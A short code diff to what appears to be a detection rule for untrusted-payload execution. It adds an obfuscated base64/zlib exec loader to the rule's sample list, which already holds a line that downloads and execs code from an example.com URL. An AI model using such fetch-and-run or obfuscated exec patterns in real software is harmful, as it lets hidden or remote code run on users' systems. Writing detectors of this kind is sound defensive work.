@@ -140,6 +140,8 @@ class ExecOfUntrustedPayload(ps.CodeScreen, Rule):
         Example("import os\neval(os.environ['HOOK'])\n"),
         "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
         "\"import urllib.request as u; exec(u.urlopen('https://example.com/s').read())\"])\n",
+        "import base64, zlib\ndef unpack(b):\n    return zlib.decompress(base64.b64decode(b[::-1]))\n"
+        "exec(unpack(b'==w0IE0gAIA5XHFTPDV1NnkLs46KW/iym/CyRpyLI3CzLzJe'))\n",
     )
 
     @classmethod
